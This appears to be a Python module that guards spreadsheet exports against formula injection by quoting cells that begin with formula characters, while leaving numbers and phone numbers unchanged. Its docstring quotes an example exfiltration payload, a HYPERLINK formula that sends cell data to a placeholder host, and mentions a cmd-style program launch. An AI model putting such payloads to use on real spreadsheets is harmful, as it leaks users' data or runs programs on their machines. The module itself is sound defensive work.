"""Cells of a CSV or XLSX export that a spreadsheet will not run as a formula.

A cell beginning with `=`, `+`, `-` or `@` (or their full-width forms), a tab, a carriage return or
a line feed — after any leading spaces — is read by Excel, LibreOffice and Google Sheets as a
formula: a customer named `=HYPERLINK("http://x.invalid/?"&A1,"Details")` sends the sheet's data
away when the cell is clicked, `=cmd|…` may start a program. Such a cell gets a leading single
quote (OWASP's advice): the text is shown as written, with the quote in front.

Left as they are: numbers (`-3`, `+2.5`) and phone numbers — a `+` or `-` followed only by digits,
spaces, dots, hyphens and parentheses (`+212 6 12 34 56 78`, `+33 (0)6 12 34 56 78`). Such a cell
can hold no function name, cell reference, string or program call (all of them need letters,
quotes, `:`, `!` or `|`): at worst a spreadsheet does arithmetic with it, and the SMS or phone
campaign reads the number as it was typed, without a quote in front.

The desk's exports apply the same rule in JavaScript (`dux_trace/public/js/export_cells.js`); the
pure suite checks that the two agree.
"""

from __future__ import annotations

import re

#: what a spreadsheet takes as the start of a formula
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
#: a number or a phone number: nothing a formula could call or reference
_NUMBER_OR_PHONE = re.compile(r"[+-]?[0-9][0-9 .()\-]*")


def safe_cell(value):
	"""The value as an export should write it: text that would start a formula gets a leading
	single quote; numbers, phone numbers, other text and non-text values are returned unchanged."""
	if not isinstance(value, str):
		return value
	start = value.lstrip(" ")
	if not start.startswith(FORMULA_STARTS):
		return value
	if value == start and _NUMBER_OR_PHONE.fullmatch(value):
		return value
	return "'" + value


def safe_rows(rows):
	"""Every cell of the rows through safe_cell."""
	return [[safe_cell(cell) for cell in row] for row in rows]
